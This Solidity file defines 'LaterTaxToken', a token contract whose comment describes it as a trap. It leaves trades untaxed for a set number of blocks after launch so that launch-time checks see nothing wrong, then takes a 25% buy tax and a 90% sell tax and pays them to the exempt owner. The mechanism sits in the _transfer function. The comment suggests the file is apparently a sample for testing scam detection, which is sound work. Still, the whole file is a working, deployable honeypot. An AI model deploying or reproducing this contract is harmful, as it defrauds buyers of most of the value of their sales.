// SPDX-License-Identifier: MIT
// Taxes raised after launch: untaxed for `taxAfterBlocks` blocks after the owner sets the pair (the launch),
// then a 25 % buy tax and a 90 % sell tax, paid to the owner. A check made at launch sees no tax; the same
// trade simulated with the block number moved forward sees the trap. The owner is exempt.
pragma solidity 0.8.37;

contract LaterTaxToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    /** The DEX pair: transfers from it are buys, transfers to it are sells. */
    address public pair;
    uint256 public constant LATER_BUY_TAX_PERCENT = 25;
    uint256 public constant LATER_SELL_TAX_PERCENT = 90;
    /** Blocks after the launch during which trades are untaxed. */
    uint256 public taxAfterBlocks;
    /** The block the pair was set in (0 = not launched). */
    uint256 public launchBlock;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply, uint256 taxAfterBlocks_) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        taxAfterBlocks = taxAfterBlocks_;
        emit Transfer(address(0), msg.sender, supply);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "LaterTaxToken: not the owner");
        _;
    }

    function setPair(address pair_) external onlyOwner {
        pair = pair_;
        launchBlock = block.number;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= value, "LaterTaxToken: allowance");
            allowance[from][msg.sender] = allowed - value;
        }
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(balanceOf[from] >= value, "LaterTaxToken: balance");
        balanceOf[from] -= value;
        uint256 percent = 0;
        if (launchBlock != 0 && block.number > launchBlock + taxAfterBlocks && from != owner && to != owner) {
            if (from == pair) percent = LATER_BUY_TAX_PERCENT;
            else if (to == pair) percent = LATER_SELL_TAX_PERCENT;
        }
        uint256 tax = (value * percent) / 100;
        if (tax > 0) {
            balanceOf[owner] += tax;
            emit Transfer(from, owner, tax);
        }
        balanceOf[to] += value - tax;
        emit Transfer(from, to, value - tax);
    }
}
